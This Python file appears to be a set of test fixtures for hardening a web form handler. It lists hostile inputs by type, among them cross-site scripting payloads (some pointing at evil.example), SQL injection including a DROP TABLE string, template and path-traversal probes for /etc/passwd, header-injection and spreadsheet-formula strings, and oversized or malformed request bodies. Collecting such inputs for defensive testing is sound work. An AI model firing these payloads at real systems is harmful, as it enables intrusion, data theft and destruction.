"""What attackers type: each text is a known way to run, read or break something."""

from __future__ import annotations

SCRIPTS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' autofocus onfocus=alert(1) x='",
    "</textarea><svg/onload=alert(1)>",
    "</title><body onload=alert(1)>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "<form action=//evil.example><input name=a>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>@import '//evil.example/x.css';</style>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--<script>alert(1)//-->",
    "\u2028alert(1)//",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE cases; --",
    '" UNION SELECT secret FROM state --',
    "1) OR (SELECT 1 FROM pg_sleep(9)) IS NULL --",
    "%' ESCAPE '\\",
    ":id",
    "%(id)s",
    "$1",
    "?",
)
TEMPLATES = (
    "{{7*7}}", "{{ settings.secret }}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
    "{ $organiser }", "{ NUMBER(7) }", "{0.__class__.__mro__}", "%s%s%n", "{n}", "{label}",
)  # fmt: skip
PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "file:" + "///etc/passwd",
    "%2e%2e%2f",
    "\\\\evil\\x",
)
HEADERS = (
    "\r\nSet-Cookie: stolen=1",
    "a\nLocation: //evil.example",
    "%0d%0aSet-Cookie:%20stolen=1",
    "x\u010d\u010aSet-Cookie: stolen=1",
)
TEXTS = (
    "", " ", "\t\r\n", "a" * 9_999, "\u00e4" * 9_999, "🫖" * 4_000,
    "\u202eevil\u202c", "\u0000".replace("\0", "\x01"), "\x1b[31m",
    "\x7f\x80\x9f", "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "a\u0301" * 500,
    "Z\u0351\u036b\u0343" * 800, "\u200b" * 50,
    "ﷺ" * 5_000, "null", "undefined", "None", "true", "[]", "[object Object]",
)  # fmt: skip
NUMBERS = (
    "0" * 400, "9" * 5_000, "-1", "1e999", "-1e999",
    "1e-999", "NaN", "inf", "0x1f", "1_000", "١٢٣", "²", "Ⅷ", "½",
    "3,5", "1.2.3",
    "1,234", "+5", "--5", "5-", "2147483648", "9223372036854775808", "18446744073709551616",
)  # fmt: skip
DAYS = (
    "0000-00-00",
    "9999-12-31",
    "10000-01-01",
    "2026-02-30",
    "-2026-01-01",
    "2026-1-1T00:00",
    "\uff11\uff19\uff19\uff19-01-01",
    "31.2.1999",
)
SHEETS = ("=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1", "-1+1", "\t=1+1")

HOSTILE = (*SCRIPTS, *QUERIES, *TEMPLATES, *PATHS, *HEADERS, *TEXTS, *NUMBERS, *DAYS, *SHEETS)

# Bodies that are no form, or none that anybody fills in, and what is said of them.
BODIES: dict[str, tuple[bytes, str, set[int]]] = {
    "ten megabytes": (b"a=" + b"x" * 10_000_000, "", {413}),
    "a little too much": (b"a=" + b"x" * (256 * 1024), "", {413}),
    "10,000 fields": (b"a=&" * 10_000, "", {400}),
    "10,000 names": (b"&".join(b"f%d=1" % number for number in range(10_000)), "", {400}),
    "only separators": (b"&" * 200_000, "", {400}),
    "broken UTF-8": (b"a=\xff\xfe", "", {400}),
    "broken UTF-8, escaped": (b"a=%ff%fe", "", {400}),
    "too long UTF-8": (b"a=%c0%80", "", {400}),
    "a half surrogate": (b"a=%ed%a0%80", "", {400}),
    "nul": (b"a=%00", "", {400}),
    "nul in a name": (b"a%00b=1", "", {400}),
    "UTF-16": ("a=1".encode("utf-16"), "", {400}),
    "no escapes": (b"%=%&%zz=%1", "", {400, 403}),
    "deep JSON": (b"[" * 100_000, "application/json", {415}),
    "JSON": (b'{"form-signed": {"$ne": null}}', "application/json", {415}),
    "multipart": (
        b'--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1\r\n--b--\r\n',
        "multipart/form-data; boundary=b",
        {415},
    ),
    "many parts": (b"--b\r\n" * 40_000, "multipart/form-data; boundary=b", {415}),
    "entities": (b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>', "application/xml", {415}),
    "text": (b"a=1", "text/plain", {415}),
    "no type": (b"a=1", "-", {415}),
    "an odd type": (b"a=1", "application/x-www-form-urlencoded\t;charset=utf-7", {400, 403}),
}  # fmt: skip
